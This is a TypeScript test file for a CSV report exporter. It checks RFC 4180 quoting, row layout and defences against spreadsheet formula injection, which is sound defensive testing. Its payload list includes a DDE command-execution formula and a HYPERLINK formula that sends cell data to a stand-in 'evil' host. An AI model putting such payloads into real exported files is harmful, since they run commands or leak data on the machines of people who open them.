import { describe, expect, it } from 'vitest';
import { renderCsv } from './csv-report.ts';
import { finding, input, poisoned } from './testing/report-input.ts';

/** RFC 4180, strictly: CRLF between rows, quotes doubled, every data cell quoted. */
function parse(text: string): string[][] {
  const [header = '', ...rest] = text.split('\r\n');
  const rows: string[][] = [header.split(',')];
  const body = rest.join('\r\n');
  let row: string[] = [];
  for (let at = 0; at < body.length; ) {
    const cell = /"((?:[^"]|"")*)"(,|\r\n)/y;
    cell.lastIndex = at;
    const found = cell.exec(body);
    if (!found) throw new Error(`no cell at ${at}: ${body.slice(at, at + 40)}`);
    row.push((found[1] ?? '').replaceAll('""', '"'));
    at = cell.lastIndex;
    if (found[2] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}
const records = (text: string) => {
  const [header = [], ...rows] = parse(text);
  return rows.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index]])));
};

describe('the CSV report', () => {
  it('has a row for each finding, each unknown and each clean server', () => {
    expect(records(renderCsv(input([finding(), finding({ id: 'fnd_2', severity: 'low' })])))).toMatchObject([
      { server: 'filesystem', kind: 'server', status: 'compliant', rule: '' },
      {
        server: 'github',
        kind: 'finding',
        severity: 'critical',
        rule: 'CFG-01',
        findingId: 'fnd_1',
        actionable: 'true',
      },
      { server: 'github', kind: 'finding', severity: 'low', findingId: 'fnd_2' },
      { server: 'github', kind: 'unknown', rule: 'SUP-01', evidence: 'the registry serves no advisories' },
    ]);
    expect(records(renderCsv(input(undefined)))).toMatchObject([
      {},
      { kind: 'issue', issue: 'secret_in_config' },
      { kind: 'unknown' },
    ]);
  });

  it.each([
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '=HYPERLINK("http://evil/?"&A1,"x")',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '"=1+1',
    '","=1+1',
    '"\r\n"=1+1',
    '|calc',
    '%0A=1',
  ])('makes text of %j in every cell', (payload) => {
    const rows = parse(renderCsv(poisoned(payload)));
    expect(rows).toHaveLength(4);
    expect(rows.every((row) => row.length === rows[0]?.length)).toBe(true);
    for (const cell of rows.slice(1).flat()) expect(cell).not.toMatch(/^\s*[=+\-@|%＝＋－＠]|^[\t\r\n]/u);
  });

  it('keeps quotes, commas and lines of text whole', () => {
    const evidence = 'say "a", then\nb, or ünïcødé 中文';
    expect(records(renderCsv(input([finding({ evidence })])))[1]).toMatchObject({ evidence });
  });
});
